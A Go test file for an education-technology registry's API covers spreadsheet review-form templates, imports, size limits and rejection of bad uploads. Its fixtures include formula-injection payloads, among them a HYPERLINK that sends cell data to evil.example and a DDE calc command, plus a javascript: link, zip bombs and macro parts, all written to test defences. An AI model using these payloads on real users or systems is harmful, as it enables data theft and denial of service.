package http

import (
	"archive/zip"
	"bytes"
	"fmt"
	"io"
	"mime/multipart"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/edtech-registry/registry/internal/registry"
	"github.com/edtech-registry/registry/internal/xlsx"
	"github.com/edtech-registry/registry/internal/xlsx/xlsxtest"
)

// formPayloads are texts a spreadsheet would run as formulas if they were
// written as formulas or lost their text format (OWASP "CSV injection");
// the form must carry them into the review as written.
var formPayloads = []string{
	`=HYPERLINK("https://evil.example/?x="&A1,"click")`, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "\n=1+1",
	`=cmd|' /C calc'!A0`,
}

// formLink is an evidence link that looks like a formula.
const formLink = "https://evil.example/=cmd|'/C%20calc'!A0"

// formSample is a review that answers every criterion of r with every kind
// of answer, with injection payloads in its free text: as a filled form,
// and as the JSON body that submits the same review.
func formSample(r *registry.Rubric) (xlsxtest.Review, map[string]any) {
	summary := "Useful, with care. " + strings.Join(formPayloads, " | ")
	details := formPayloads[3] + " I ran a paid pilot."
	in := xlsxtest.Review{Fields: map[string]any{
		"Role": "support-staff", "Phase": "special", "Nation": "scotland", "Subject": formPayloads[0], "Setting": "independent",
		"Months of use": 7, "How often": "daily", "Recommendation": "not-recommended",
		"Summary": summary, "Conflict of interest": "yes", "Conflict details": details,
	}}
	var answers []map[string]any
	for i, c := range r.Criteria() {
		a := xlsxtest.Answer{Criterion: c.ID}
		j := map[string]any{"criterion": c.ID}
		switch {
		case i%5 == 1 && c.Unknown != registry.UnknownNone:
			a.Answer, j["unknown"] = xlsx.DontKnow, true
		case i%5 == 2 && c.NotApplicable:
			a.Answer, j["na"] = xlsx.NotApplicable, true
		default:
			a.Answer, a.Number, j["score"] = strconv.Itoa(i%registry.Levels), i%3 == 0, i%registry.Levels
		}
		if i%2 == 0 {
			a.Comment = formPayloads[(i/2)%len(formPayloads)]
			j["comment"] = a.Comment
		}
		if i%4 == 0 {
			a.Evidence = []string{formLink, "http://example.org/policy#" + c.ID}
			j["evidence"] = a.Evidence
		}
		in.Answers = append(in.Answers, a)
		answers = append(answers, j)
	}
	body := map[string]any{
		"rubricId": r.ID, "rubricVersion": r.Version,
		"reviewer":           map[string]any{"role": "support-staff", "phase": "special", "nation": "scotland", "subject": formPayloads[0], "setting": "independent"},
		"usage":              map[string]any{"months": 7, "frequency": "daily"},
		"answers":            answers,
		"recommendation":     "not-recommended",
		"summary":            summary,
		"conflictOfInterest": map[string]any{"declared": true, "details": details},
	}
	return in, body
}

// downloadForm downloads the review form (query: "", "?product=…", …).
func (e *env) downloadForm(t testing.TB, rubricID, query string) []byte {
	t.Helper()
	r := e.must(t, 200, request{Method: "GET", Path: "/api/v1/rubrics/" + rubricID + "/template.xlsx" + query})
	if ct := r.Header.Get("Content-Type"); ct != xlsx.ContentType {
		t.Errorf("Content-Type = %q", ct)
	}
	return r.Body
}

// multipartFile is a multipart/form-data body with data in field and its
// content type.
func multipartFile(t testing.TB, field string, data []byte) ([]byte, string) {
	t.Helper()
	var buf bytes.Buffer
	w := multipart.NewWriter(&buf)
	fw, err := w.CreateFormFile(field, "review.xlsx")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := fw.Write(data); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes(), w.FormDataContentType()
}

// importForm uploads a form as token to the product's import route.
func (e *env) importForm(t testing.TB, product, token string, data []byte, headers map[string]string) *response {
	t.Helper()
	body, ct := multipartFile(t, "file", data)
	h := map[string]string{"Content-Type": ct}
	for k, v := range headers {
		h[k] = v
	}
	return e.do(t, request{Method: "POST", Path: "/api/v1/products/" + product + "/reviews/import", Token: token, Body: body, Headers: h})
}

// storedReview reads a review as its author sees it, without what differs
// between two submissions of the same review (id and times).
func (e *env) storedReview(t testing.TB, id, token string) moderatedReviewJSON {
	t.Helper()
	var out moderatedReviewJSON
	e.must(t, 200, request{Method: "GET", Path: "/api/v1/reviews/" + id, Token: token}).json(t, &out)
	out.ID, out.CreatedAt, out.UpdatedAt = "", time.Time{}, time.Time{}
	return out
}

// TestReviewForm downloads the form through the API, fills it as two
// programs would (excelize and openpyxl), imports it, and finds the review
// a JSON submission of the same answers creates, field by field.
func TestReviewForm(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	pid := e.createProduct(t, "Form Target")
	form := e.downloadForm(t, e.rubric.ID, "?product="+pid)
	in, body := formSample(e.rubric)
	cells := xlsxtest.LocateForm(t, form).Cells(t, in)

	// The reference: the same review submitted as JSON.
	jsonToken := e.reviewerToken(t)
	jsonID := e.submit(t, pid, jsonToken, body)
	want := e.storedReview(t, jsonID, jsonToken)
	if want.Status != registry.StatusPending || len(want.Answers) != len(e.rubric.Criteria()) {
		t.Fatalf("the JSON submission = %+v", want)
	}

	for _, tc := range []struct {
		name string
		fill func(t testing.TB, data []byte, cells []xlsxtest.Cell) []byte
	}{
		{"Excelize", xlsxtest.FillWithExcelize},
		{"Openpyxl", xlsxtest.FillWithOpenpyxl},
	} {
		t.Run(tc.name, func(t *testing.T) {
			tok := e.reviewerToken(t)
			r := e.importForm(t, pid, tok, tc.fill(t, form, cells), nil)
			if r.Status != 201 {
				t.Fatalf("import: %d %s", r.Status, r.Body)
			}
			var receipt submittedJSON
			r.json(t, &receipt)
			if receipt.Status != registry.StatusPending || receipt.ProductID != pid || receipt.RubricID != e.rubric.ID || receipt.RubricVersion != e.rubric.Version {
				t.Errorf("receipt = %+v", receipt)
			}
			got := e.storedReview(t, receipt.ID, tok)
			if !reflect.DeepEqual(got, want) {
				t.Errorf("imported review differs from the JSON one:\n got %+v\nwant %+v", got, want)
			}
			// The payloads survive as text.
			if got.Summary != body["summary"] || got.Reviewer.Subject != formPayloads[0] || got.Answers[0].Comment != formPayloads[0] ||
				got.Answers[10].Comment != formPayloads[5] || !slices.Contains(got.Answers[0].Evidence, formLink) {
				t.Errorf("payloads changed: summary %q, subject %q, comments %q %q, evidence %q",
					got.Summary, got.Reviewer.Subject, got.Answers[0].Comment, got.Answers[10].Comment, got.Answers[0].Evidence)
			}
			// The author's second import of the product is the same 409 as
			// a second JSON submission.
			before := e.snapshot(t)
			e.must(t, 409, request{Method: "POST", Path: "/api/v1/products/" + pid + "/reviews", Token: tok, Body: body})
			if r := e.importForm(t, pid, tok, tc.fill(t, form, cells), nil); r.Status != 409 {
				t.Errorf("second import: %d %s", r.Status, r.Body)
			}
			e.unchanged(t, before, "a second review by the same token")
		})
	}

	t.Run("Idempotency", func(t *testing.T) {
		tok := e.reviewerToken(t)
		data := xlsxtest.FillWithExcelize(t, form, cells)
		key := map[string]string{"Idempotency-Key": "form-1"}
		var first, again submittedJSON
		if r := e.importForm(t, pid, tok, data, key); r.Status != 201 {
			t.Fatalf("import: %d %s", r.Status, r.Body)
		} else {
			r.json(t, &first)
		}
		before := e.snapshot(t)
		if r := e.importForm(t, pid, tok, data, key); r.Status != 200 {
			t.Fatalf("retry: %d %s", r.Status, r.Body)
		} else {
			r.json(t, &again)
		}
		if again != first {
			t.Errorf("retry = %+v, first = %+v", again, first)
		}
		// The same key and the same review as JSON is the same request.
		var asJSON submittedJSON
		e.must(t, 200, request{Method: "POST", Path: "/api/v1/products/" + pid + "/reviews", Token: tok, Body: body, Headers: key}).json(t, &asJSON)
		if asJSON != first {
			t.Errorf("JSON retry = %+v, first = %+v", asJSON, first)
		}
		other := in
		other.Fields = map[string]any{"Recommendation": "recommend"}
		changed := xlsxtest.FillWithExcelize(t, data, xlsxtest.LocateForm(t, form).Cells(t, other))
		r := e.importForm(t, pid, tok, changed, key)
		if r.Status != 422 || !slices.Equal(r.fields(t), []string{"Idempotency-Key"}) {
			t.Errorf("same key, other form: %d %s", r.Status, r.Body)
		}
		e.unchanged(t, before, "idempotent retries")
	})

	t.Run("ModerationOff", func(t *testing.T) {
		e := newEnv(t, moderationOff)
		pid := e.createProduct(t, "Published At Once")
		form := e.downloadForm(t, e.rubric.ID, "")
		r := e.importForm(t, pid, e.reviewerToken(t), xlsxtest.FillWithExcelize(t, form, xlsxtest.LocateForm(t, form).Cells(t, in)), nil)
		var receipt submittedJSON
		if r.Status != 201 {
			t.Fatalf("import: %d %s", r.Status, r.Body)
		}
		r.json(t, &receipt)
		if receipt.Status != registry.StatusPublished {
			t.Errorf("status %q with moderation off", receipt.Status)
		}
	})

	t.Run("NoToken", func(t *testing.T) {
		before := e.snapshot(t)
		if r := e.importForm(t, pid, "", xlsxtest.FillWithExcelize(t, form, cells), nil); r.Status != 401 {
			t.Errorf("status %d", r.Status)
		}
		e.unchanged(t, before, "an import without a token")
	})
	t.Run("UnknownProduct", func(t *testing.T) {
		if r := e.importForm(t, "no-such-product", e.reviewerToken(t), xlsxtest.FillWithExcelize(t, form, cells), nil); r.Status != 404 {
			t.Errorf("status %d", r.Status)
		}
	})
	t.Run("NotMultipart", func(t *testing.T) {
		tok := e.reviewerToken(t)
		before := e.snapshot(t)
		r := e.must(t, 422, request{Method: "POST", Path: "/api/v1/products/" + pid + "/reviews/import", Token: tok, Body: body})
		if !slices.Equal(r.fields(t), []string{"file"}) {
			t.Errorf("fields = %v", r.fields(t))
		}
		e.unchanged(t, before, "a JSON body to the import")
	})
	t.Run("OtherField", func(t *testing.T) {
		raw, ct := multipartFile(t, "upload", xlsxtest.FillWithExcelize(t, form, cells))
		r := e.must(t, 422, request{Method: "POST", Path: "/api/v1/products/" + pid + "/reviews/import", Token: e.reviewerToken(t), Body: raw,
			Headers: map[string]string{"Content-Type": ct}})

		if !slices.Equal(r.fields(t), []string{"file"}) {
			t.Errorf("fields = %v", r.fields(t))
		}
	})
}

// TestReviewFormTemplate checks the download route: its parameters, its
// errors and its headers.
func TestReviewFormTemplate(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	pid := e.createProduct(t, "Template Product")
	today := time.Now().UTC().Format(time.DateOnly)
	identity := func(t *testing.T, data []byte) (version, product, shown string) {
		t.Helper()
		f, err := excelize.OpenReader(bytes.NewReader(data))
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		version, _ = f.GetCellValue(xlsx.FormSheet, "B3")
		product, _ = f.GetCellValue(xlsx.FormSheet, "B5")
		shown, _ = f.GetCellValue(xlsx.ReviewSheet, "D2")
		return
	}
	t.Run("Latest", func(t *testing.T) {
		r := e.must(t, 200, request{Method: "GET", Path: "/api/v1/rubrics/" + e.rubric.ID + "/template.xlsx"})
		want := fmt.Sprintf(`attachment; filename="review-form-%s-v%d-%s.xlsx"`, e.rubric.ID, e.rubric.Version, today)
		if got := r.Header.Get("Content-Disposition"); got != want {
			t.Errorf("Content-Disposition = %q, want %q", got, want)
		}
		if v, p, _ := identity(t, r.Body); v != strconv.Itoa(e.rubric.Version) || p != "" {
			t.Errorf("form of version %q for product %q", v, p)
		}
	})
	t.Run("VersionAndProduct", func(t *testing.T) {
		r := e.must(t, 200, request{Method: "GET", Path: "/api/v1/rubrics/" + e.rubric.ID + "/template.xlsx?version=1&product=" + pid})
		if got := r.Header.Get("Content-Disposition"); !strings.Contains(got, fmt.Sprintf("-v1-%s-%s.xlsx", pid, today)) {
			t.Errorf("Content-Disposition = %q", got)
		}
		if v, p, shown := identity(t, r.Body); v != "1" || p != pid || !strings.HasPrefix(shown, "Template Product") {
			t.Errorf("form of version %q for product %q, showing %q", v, p, shown)
		}
	})
	for _, tc := range []struct {
		name, path string
		status     int
		field      string
	}{
		{"UnknownRubric", "/api/v1/rubrics/no-such-rubric/template.xlsx", 404, ""},
		{"UnknownVersion", "/api/v1/rubrics/" + e.rubric.ID + "/template.xlsx?version=99", 404, ""},
		{"VersionNotANumber", "/api/v1/rubrics/" + e.rubric.ID + "/template.xlsx?version=one", 422, "version"},
		{"VersionZero", "/api/v1/rubrics/" + e.rubric.ID + "/template.xlsx?version=0", 422, "version"},
		{"UnknownProduct", "/api/v1/rubrics/" + e.rubric.ID + "/template.xlsx?product=no-such-product", 404, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := e.must(t, tc.status, request{Method: "GET", Path: tc.path})
			if got := r.fields(t); tc.field != "" && !slices.Equal(got, []string{tc.field}) {
				t.Errorf("fields = %v", got)
			}
		})
	}
}

// rezip rewrites a workbook's parts: edit returns a part's new content
// (nil drops it); extra parts are added.
func rezip(t *testing.T, data []byte, edit func(name string, body []byte) []byte, extra map[string][]byte) []byte {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	put := func(name string, body []byte) {
		w, err := zw.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write(body); err != nil {
			t.Fatal(err)
		}
	}
	for _, f := range zr.File {
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		body, err := io.ReadAll(rc)
		rc.Close()
		if err != nil {
			t.Fatal(err)
		}
		if edit != nil {
			body = edit(f.Name, body)
		}
		if body != nil {
			put(f.Name, body)
		}
	}
	for name, body := range extra {
		put(name, body)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// zipOf is a zip archive of the given parts.
func zipOf(t *testing.T, parts map[string][]byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	names := make([]string, 0, len(parts))
	for n := range parts {
		names = append(names, n)
	}
	slices.Sort(names)
	for _, n := range names {
		w, err := zw.Create(n)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write(parts[n]); err != nil {
			t.Fatal(err)
		}
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// editForm opens a workbook with excelize, applies edit and saves it;
// opts are the save options (a password).
func editForm(t *testing.T, data []byte, edit func(f *excelize.File) error, opts ...excelize.Options) []byte {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if err := edit(f); err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if _, err := f.WriteTo(&buf, opts...); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// otherRubricForm is the form of a copy of r changed by change.
func otherRubricForm(t *testing.T, r *registry.Rubric, change func(r *registry.Rubric)) []byte {
	t.Helper()
	c := *r
	change(&c)
	var buf bytes.Buffer
	if err := xlsx.WriteTemplate(&buf, &c, nil, xlsx.Info{Generated: time.Now()}); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// TestReviewFormBadFiles uploads a table of bad files: each is a 422
// whose errors name the cell (or the file) with the expected message, and
// nothing is stored.
func TestReviewFormBadFiles(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	pid := e.createProduct(t, "Bad Files")
	other := e.createProduct(t, "Someone Else")
	form := e.downloadForm(t, e.rubric.ID, "")
	loc := xlsxtest.LocateForm(t, form)
	in, _ := formSample(e.rubric)
	good := xlsxtest.FillWithExcelize(t, form, loc.Cells(t, in))
	crit := e.rubric.Criteria()
	// Criteria with particular answer lists, found in the rubric.
	var withUnknown, noUnknown, noNA *registry.Criterion
	for i := range crit {
		c := &crit[i]
		switch {
		case c.Unknown != registry.UnknownNone && !c.NotApplicable && withUnknown == nil:
			withUnknown = c
		case c.Unknown == registry.UnknownNone && !c.NotApplicable && noUnknown == nil:
			noUnknown = c
		}
		if !c.NotApplicable && noNA == nil {
			noNA = c
		}
	}
	if withUnknown == nil || noUnknown == nil || noNA == nil {
		t.Fatal("the rubric lacks a criterion kind this test needs")
	}
	row := func(id string) int { return loc.Rows[id] }
	cell := func(col string, id string) string { return fmt.Sprintf("Review!%s%d", col, row(id)) }
	last := 0
	for _, r := range loc.Rows {
		last = max(last, r)
	}
	set := func(ref string, v any) func(f *excelize.File) error {
		return func(f *excelize.File) error { return f.SetCellValue(xlsx.ReviewSheet, ref, v) }
	}
	ref := func(col string, id string) string { return fmt.Sprintf("%s%d", col, row(id)) }
	first := crit[0].ID
	fifth := crit[4].ID
	var bomb bytes.Buffer
	{
		zw := zip.NewWriter(&bomb)
		w, _ := zw.Create("xl/worksheets/sheet1.xml")
		zeros := make([]byte, 1<<20)
		for range 64 {
			_, _ = w.Write(zeros)
		}
		_ = zw.Close()
	}
	many := map[string][]byte{}
	for i := range xlsx.MaxZipEntries + 1 {
		many[fmt.Sprintf("part%04d.xml", i)] = []byte("<a/>")
	}
	long := strings.Repeat("é", registry.MaxCommentLength+1)
	// One token for every upload: nothing is stored, and a token made
	// by one parallel subtest would change another's snapshot.
	tok := e.reviewerToken(t)

	tests := []struct {
		name string
		file []byte
		// fields are the expected problems' fields, in order ("Review!*":
		// a cell of the Review sheet); message is a part of the first
		// problem's message.
		fields  []string
		message string
	}{
		{"Empty", nil, []string{"file"}, "empty"},
		{"NotAZip", []byte("criterion,answer\npedagogy.thinking,5\n"), []string{"file"}, "not a zip archive"},
		{"NotAWorkbook", zipOf(t, map[string][]byte{"notes.txt": []byte("hello")}), []string{"file"}, "not an Excel workbook"},
		{"WordDocument", zipOf(t, map[string][]byte{"[Content_Types].xml": []byte(`<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
			`<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`),
			"word/document.xml": []byte("<w/>")}), []string{"file"}, "not an Excel workbook"},
		{"OpenDocument", zipOf(t, map[string][]byte{"mimetype": []byte("application/vnd.oasis.opendocument.spreadsheet"), "content.xml": []byte("<x/>")}),
			[]string{"file"}, "OpenDocument"},
		{"ZipBomb", bomb.Bytes(), []string{"file"}, "would unzip to 64 MiB"},
		{"ZipBombForgedSizes", forgedBomb(t), []string{"file"}, "cannot be unzipped"},
		{"TooManyParts", zipOf(t, many), []string{"file"}, "parts"},
		{"MacroEnabled", rezip(t, good, func(name string, body []byte) []byte {
			if name == "[Content_Types].xml" {
				return bytes.Replace(body, []byte("spreadsheetml.sheet.main+xml"), []byte("ms-excel.sheet.macroEnabled.main+xml"), 1)
			}
			return body
		}, nil), []string{"file"}, "macro-enabled"},
		{"VBAProject", rezip(t, good, nil, map[string][]byte{"xl/vbaProject.bin": []byte("Attribute VB_Name = \"Module1\"")}), []string{"file"}, "contains macros"},
		{"Encrypted", editForm(t, good, func(*excelize.File) error { return nil }, excelize.Options{Password: "secret"}), []string{"file"}, "encrypted"},
		{"LegacyBinary", append([]byte{0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1}, make([]byte, 1024)...), []string{"file"}, "97–2003"},
		{"NotAForm", editForm(t, emptyWorkbook(t), func(f *excelize.File) error { return f.SetCellValue("Sheet1", "A1", "hello") }),
			[]string{"file"}, "not a review form"},
		{"AnotherRubric", otherRubricForm(t, e.rubric, func(r *registry.Rubric) { r.ID = "another" }), []string{"Review!D3"}, `rubric "another" version 1, which this registry does not have`},
		{"AnotherVersion", otherRubricForm(t, e.rubric, func(r *registry.Rubric) { r.Version = 7 }), []string{"Review!D3"}, "version 7, which this registry does not have"},
		{"AnotherText", otherRubricForm(t, e.rubric, func(r *registry.Rubric) { r.Hash = strings.Repeat("0", 64) }), []string{"Review!D4"}, "another text of rubric"},
		{"OtherProduct", xlsxtest.FillWithExcelize(t, e.downloadForm(t, e.rubric.ID, "?product="+other), loc.Cells(t, in)), []string{"Review!D2"},
			fmt.Sprintf("made for product %q", other)},
		{"MissingRow", editForm(t, good, func(f *excelize.File) error { return f.RemoveRow(xlsx.ReviewSheet, row(fifth)) }),
			[]string{cell("A", fifth)}, fmt.Sprintf("the row of criterion %q", fifth)},
		{"AddedRow", editForm(t, good, func(f *excelize.File) error {
			return f.SetSheetRow(xlsx.ReviewSheet, fmt.Sprintf("A%d", last+1), &[]any{"pedagogy.extra", "Extra", "?", "3"})
		}), []string{fmt.Sprintf("Review!A%d", last+1)}, `"pedagogy.extra" is not a criterion of rubric default version 1`},
		{"AddedRowWithoutID", editForm(t, good, set(fmt.Sprintf("E%d", last+3), "a stray comment")),
			[]string{fmt.Sprintf("Review!A%d", last+3)}, "a row without a criterion id"},
		{"RenamedRow", editForm(t, good, set(ref("A", fifth), fifth+"-renamed")),
			[]string{cell("A", fifth), cell("A", fifth)}, "is not a criterion"},
		{"CopiedRow", editForm(t, good, set(ref("A", fifth), first)), []string{cell("A", fifth), cell("A", fifth)}, "is already on row"},
		{"Retitled", editForm(t, good, set(ref("B", fifth), "Something else")), []string{cell("B", fifth)}, "should be the title"},
		{"LayoutChanged", editForm(t, good, set("A7", "Job")), []string{"Review!A7"}, `should be the field "Role"`},
		{"ScoreOutOfList", editForm(t, good, set(ref("D", withUnknown.ID), "5")), []string{cell("D", withUnknown.ID)}, `"5" is not one of 0–4, don't know`},
		{"NumberOutOfList", editForm(t, good, set(ref("D", withUnknown.ID), 2.5)), []string{cell("D", withUnknown.ID)}, `"2.5" is not one of 0–4, don't know`},
		{"DontKnowNotAllowed", editForm(t, good, set(ref("D", noUnknown.ID), "don't know")), []string{cell("D", noUnknown.ID)}, `"don't know" is not one of 0–4`},
		{"NotApplicableNotAllowed", editForm(t, good, set(ref("D", noNA.ID), "not applicable")), []string{cell("D", noNA.ID)}, `"not applicable" is not one of 0–4`},
		{"RoleOutOfList", editForm(t, good, set(loc.Fields["Role"], "chef")), []string{"Review!" + loc.Fields["Role"]}, `"chef" is not one of teacher, support-staff`},
		{"MonthsNotANumber", editForm(t, good, set(loc.Fields["Months of use"], "six")), []string{"Review!" + loc.Fields["Months of use"]}, "not a whole number of months"},
		{"MonthsTooMany", editForm(t, good, set(loc.Fields["Months of use"], 241)), []string{"Review!" + loc.Fields["Months of use"]}, "from 0 to 240"},
		{"FormulaAnswer", editForm(t, good, func(f *excelize.File) error { return f.SetCellFormula(xlsx.ReviewSheet, ref("D", first), "=1+2") }),
			[]string{cell("D", first)}, "holds a formula"},
		{"FormulaComment", editForm(t, good, func(f *excelize.File) error { return f.SetCellFormula(xlsx.ReviewSheet, ref("E", fifth), `="x"`) }),
			[]string{cell("E", fifth)}, "holds a formula"},
		{"BooleanAnswer", editForm(t, good, func(f *excelize.File) error { return f.SetCellBool(xlsx.ReviewSheet, ref("D", first), true) }),
			[]string{cell("D", first)}, "TRUE or FALSE"},
		{"EmptyRequired", editForm(t, good, func(f *excelize.File) error {
			if err := f.SetCellValue(xlsx.ReviewSheet, loc.Fields["Role"], nil); err != nil {
				return err
			}
			return f.SetCellValue(xlsx.ReviewSheet, ref("D", fifth), "")
		}), []string{"Review!" + loc.Fields["Role"], cell("D", fifth)}, "is empty: choose one of teacher"},
		{"EmptySummary", editForm(t, good, set(loc.Fields["Summary"], "")), []string{"Review!" + loc.Fields["Summary"]}, "required"},
		{"SummaryTooLong", editForm(t, good, set(loc.Fields["Summary"], strings.Repeat("x", registry.MaxSummaryLength+1))),
			[]string{"Review!" + loc.Fields["Summary"]}, "at most 5000 characters"},
		{"CommentTooLong", editForm(t, good, set(ref("E", fifth), long)), []string{cell("E", fifth)}, "at most 2000 characters"},
		{"EvidenceNotAWebLink", editForm(t, good, set(ref("F", fifth), "javascript:alert(1)")), []string{cell("F", fifth)}, "http or https"},
		{"RowsFarBelow", editForm(t, good, set(fmt.Sprintf("C%d", last+500), "x")), []string{fmt.Sprintf("Review!A%d", last+500)}, "far below the last criterion"},
		{"ManyCells", editForm(t, good, func(f *excelize.File) error {
			st, err := f.NewStyle(&excelize.Style{NumFmt: 2})
			if err != nil {
				return err
			}
			return f.SetCellStyle(xlsx.ReviewSheet, "M1", fmt.Sprintf("ALL%d", last), st) // empty, styled cells
		}), []string{"Review!*"}, "more than 10000 cells"},
		{"ManySharedStrings", rezip(t, good, func(name string, body []byte) []byte {
			if name == "xl/sharedStrings.xml" {
				return bytes.Replace(body, []byte("</sst>"), []byte(strings.Repeat("<si><t>x</t></si>", 20_000)+"</sst>"), 1)
			}
			return body
		}, nil), []string{"file"}, "pieces of text"},
		{"TooManyLinks", editForm(t, good, set(ref("F", fifth), strings.Repeat("https://example.org/x ", registry.MaxEvidenceLinks+1))),
			[]string{cell("F", fifth)}, "at most 5 links"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			before := e.snapshot(t)
			r := e.importForm(t, pid, tok, tc.file, nil)
			if r.Status != 422 {
				t.Fatalf("status %d, want 422; body %s", r.Status, r.Body)
			}
			p := r.problem(t)
			if got := r.fields(t); !sameFields(got, tc.fields) {
				t.Errorf("fields = %q, want %q; %s", got, tc.fields, r.Body)
			}
			if len(p.Errors) == 0 || !strings.Contains(p.Errors[0].Message, tc.message) {
				t.Errorf("problem %+v, want a message with %q", p.Errors, tc.message)
			}
			e.unchanged(t, before, tc.name)
		})
	}

	t.Run("ManyProblems", func(t *testing.T) {
		t.Parallel()
		before := e.snapshot(t)
		bad := editForm(t, form, func(f *excelize.File) error {
			for _, c := range crit {
				for col, v := range map[string]string{"D": "9", "E": long, "F": "ftp://a ftp://b ftp://c ftp://d ftp://e ftp://f"} {
					if err := f.SetCellValue(xlsx.ReviewSheet, ref(col, c.ID), v); err != nil {
						return err
					}
				}
			}
			return nil
		})
		r := e.importForm(t, pid, tok, bad, nil)
		if r.Status != 422 {
			t.Fatalf("status %d", r.Status)
		}
		if p := r.problem(t); len(p.Errors) != xlsx.MaxFieldErrors || !strings.Contains(p.Detail, "the first 100 are listed") {
			t.Errorf("%d problems listed, detail %q", len(p.Errors), p.Detail)
		}
		e.unchanged(t, before, "a form with many problems")
	})
}

// sameFields reports whether got are the fields want names; a wanted
// field ending in "*" matches any field it begins.
func sameFields(got, want []string) bool {
	return slices.EqualFunc(got, want, func(g, w string) bool {
		if p, ok := strings.CutSuffix(w, "*"); ok {
			return strings.HasPrefix(g, p)
		}
		return g == w
	})
}

// emptyWorkbook is a new workbook with one empty sheet.
func emptyWorkbook(t *testing.T) []byte {
	t.Helper()
	f := excelize.NewFile()
	defer f.Close()
	var buf bytes.Buffer
	if _, err := f.WriteTo(&buf); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// forgedBomb is a zip whose central directory claims a 1 KiB part that
// really unzips to 64 MiB.
func forgedBomb(t *testing.T) []byte {
	t.Helper()
	var deflated bytes.Buffer
	zw := zip.NewWriter(&deflated)
	w, err := zw.Create("x")
	if err != nil {
		t.Fatal(err)
	}
	zeros := make([]byte, 1<<20)
	for range 64 {
		_, _ = w.Write(zeros)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	zr, err := zip.NewReader(bytes.NewReader(deflated.Bytes()), int64(deflated.Len()))
	if err != nil {
		t.Fatal(err)
	}
	raw, err := zr.File[0].OpenRaw()
	if err != nil {
		t.Fatal(err)
	}
	body, err := io.ReadAll(raw)
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	zw = zip.NewWriter(&out)
	types, err := zw.Create("[Content_Types].xml")
	if err != nil {
		t.Fatal(err)
	}
	_, _ = io.WriteString(types, `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">`+
		`<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>`)
	fh := &zip.FileHeader{Name: "xl/worksheets/sheet1.xml", Method: zip.Deflate, CRC32: zr.File[0].CRC32,
		CompressedSize64: uint64(len(body)), UncompressedSize64: 1 << 10}
	w, err = zw.CreateRaw(fh)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := w.Write(body); err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// TestReviewFormTooLarge: an upload over 10 MiB is a 413 before it is
// read, and only the import route accepts bodies over 1 MiB.
func TestReviewFormTooLarge(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	pid := e.createProduct(t, "Large Uploads")
	base := e.live(t)
	tok := e.reviewerToken(t)
	path := "/api/v1/products/" + pid + "/reviews/import"

	t.Run("BodyOver10MiB", func(t *testing.T) {
		before := e.snapshot(t)
		r := e.doLive(t, base, request{Method: "POST", Path: path, Token: tok}, make([]byte, MaxImportBodyBytes+1))
		if r.Status != 413 {
			t.Fatalf("status %d, want 413; body %s", r.Status, r.Body)
		}
		if p := r.problem(t); !strings.Contains(p.Detail, "10 MiB") {
			t.Errorf("detail %q", p.Detail)
		}
		e.unchanged(t, before, "an upload over 10 MiB")
	})
	t.Run("FileOver10MiB", func(t *testing.T) {
		before := e.snapshot(t)
		r := e.importForm(t, pid, tok, make([]byte, xlsx.MaxFormBytes+1), nil)
		if r.Status != 413 {
			t.Fatalf("status %d, want 413; body %s", r.Status, r.Body)
		}
		r.problem(t)
		e.unchanged(t, before, "a file over 10 MiB")
	})
	t.Run("ImportOver1MiBIsRead", func(t *testing.T) {
		// 2 MiB of junk reaches the handler: the import's own limit.
		r := e.importForm(t, pid, tok, bytes.Repeat([]byte("junk"), 1<<19), nil)
		if r.Status != 422 || !slices.Equal(r.fields(t), []string{"file"}) {
			t.Errorf("status %d, body %s", r.Status, r.Body)
		}
	})
	t.Run("JSONStillLimitedTo1MiB", func(t *testing.T) {
		r := e.doLive(t, base, request{Method: "POST", Path: "/api/v1/products/" + pid + "/reviews", Token: tok}, make([]byte, MaxBodyBytes+1))
		if r.Status != 413 {
			t.Fatalf("status %d, want 413", r.Status)
		}
		if p := r.problem(t); !strings.Contains(p.Detail, "1 MiB") {
			t.Errorf("detail %q", p.Detail)
		}
	})
}

func TestIsImport(t *testing.T) {
	t.Parallel()
	for uri, want := range map[string]bool{
		"/api/v1/products/maths/reviews/import":       true,
		"/api/v1/products/maths/reviews/import/":      true,
